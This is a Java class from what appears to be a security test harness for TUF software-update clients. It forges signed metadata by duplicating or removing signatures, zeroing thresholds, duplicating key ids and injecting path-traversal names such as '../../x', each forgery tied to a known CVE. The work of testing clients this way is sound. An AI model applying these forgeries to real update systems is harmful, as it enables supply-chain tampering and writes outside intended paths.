package dev.mallory.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;

/**
 * JSON-level forgeries for implementation bugs (tuf-attacks B1, B2): edits that no honest
 * repository makes and that well-formed models refuse to build. Each targets a bug class seen in
 * real clients:
 *
 * <ul>
 *   <li>{@code duplicate-signature}: the first signature twice (CVE-2020-6174, CVE-2020-15093)
 *   <li>{@code remove-signature}: the first signature dropped (threshold no longer met)
 *   <li>{@code threshold-zero}: every role's (root) or delegation's (targets) threshold set to 0
 *       (CVE-2026-23992)
 *   <li>{@code duplicate-key}: each role lists its first key id twice and its threshold counts it
 *       twice (go-tuf GHSA-3633-5h82-39pq)
 *   <li>{@code target-path-traversal}: a target named {@code ../../x} (CVE-2021-41131)
 *   <li>{@code delegation-path-traversal}: a delegation named {@code ../x} (tuf-js #783)
 * </ul>
 *
 * <p>Must be stopped by: distinct-key threshold counting and {@code threshold >= 1} (5.3.4, 5.4.2,
 * 5.5.3, 5.6.3), duplicate key ids refused, and names encoded or confined before they touch a path.
 * Without the role's key the edit also breaks the signature, which must be caught first.
 *
 * @param repository GUN or TUF repository name; {@code null} selects any
 * @param role the role whose file is edited
 * @param kind one of the kinds above
 * @param keys role name to key-store names: re-sign the edited role, fix up parents
 */
public record JsonForgery(String repository, String role, String kind, Map<String, List<String>> keys)
    implements Attack {
  /** The forgeries. */
  public enum Kind {
    DUPLICATE_SIGNATURE, REMOVE_SIGNATURE, THRESHOLD_ZERO, DUPLICATE_KEY, TARGET_PATH_TRAVERSAL,
    DELEGATION_PATH_TRAVERSAL
  }

  public JsonForgery {
    if (role == null) {
      throw new IllegalArgumentException("json-forgery needs a role");
    }
    kindOf(kind);
    keys = keys == null ? Map.of() : Map.copyOf(keys);
  }

  @Override
  public Optional<Effect> decide(Exchange e, AttackContext context) {
    if (!Select.metadata(e, repository, null)) {
      return Optional.empty();
    }
    Kind k = kindOf(kind);
    Consumer<ObjectNode> editSigned = switch (k) {
      case DUPLICATE_SIGNATURE, REMOVE_SIGNATURE -> null;
      case THRESHOLD_ZERO -> signed -> eachRole(signed, r -> r.put("threshold", 0));
      case DUPLICATE_KEY -> signed -> eachRole(signed, r -> {
        ArrayNode ids = r.withArray("keyids");
        if (!ids.isEmpty()) {
          ids.add(ids.get(0).asText());
          r.put("threshold", ids.size());
        }
      });
      case TARGET_PATH_TRAVERSAL -> signed -> signed.with("targets").set("../../x",
          Forgery.targetEntry(new RepositoryView(e, context).dialect(), "mallory".getBytes()));
      case DELEGATION_PATH_TRAVERSAL -> signed -> {
        ObjectNode delegations = signed.with("delegations");
        delegations.with("keys");
        ObjectNode evil = delegations.withArray("roles").addObject();
        evil.put("name", "../x");
        evil.putArray("keyids");
        evil.put("threshold", 1);
        evil.put("terminating", false);
        evil.putArray("paths").add("*");
      };
    };
    Consumer<ArrayNode> editSignatures = switch (k) {
      case DUPLICATE_SIGNATURE -> sigs -> {
        if (!sigs.isEmpty()) {
          sigs.add(sigs.get(0).deepCopy());
        }
      };
      case REMOVE_SIGNATURE -> sigs -> {
        if (!sigs.isEmpty()) {
          sigs.remove(0);
        }
      };
      default -> null;
    };
    var forged = Forgery.cached(e, context, () -> Forgery.forge(new RepositoryView(e, context), context, keys,
        new Forgery.Change(role, null, null, editSigned, editSignatures)));
    return Forgery.serve(e, forged);
  }

  // Root's "roles" is an object of role entries; a targets role's delegations.roles is an array.
  private static void eachRole(ObjectNode signed, Consumer<ObjectNode> edit) {
    JsonNode roles = signed.path("roles");
    if (roles.isObject()) {
      roles.forEach(r -> edit.accept((ObjectNode) r));
    }
    JsonNode delegated = signed.path("delegations").path("roles");
    if (delegated.isArray()) {
      delegated.forEach(r -> edit.accept((ObjectNode) r));
    }
  }

  static Kind kindOf(String text) {
    try {
      return Kind.valueOf(String.valueOf(text).toUpperCase(Locale.ROOT).replace('-', '_'));
    } catch (IllegalArgumentException e) {
      throw new IllegalArgumentException("kind must be one of duplicate-signature, remove-signature, "
          + "threshold-zero, duplicate-key, target-path-traversal, delegation-path-traversal; not " + text);
    }
  }
}
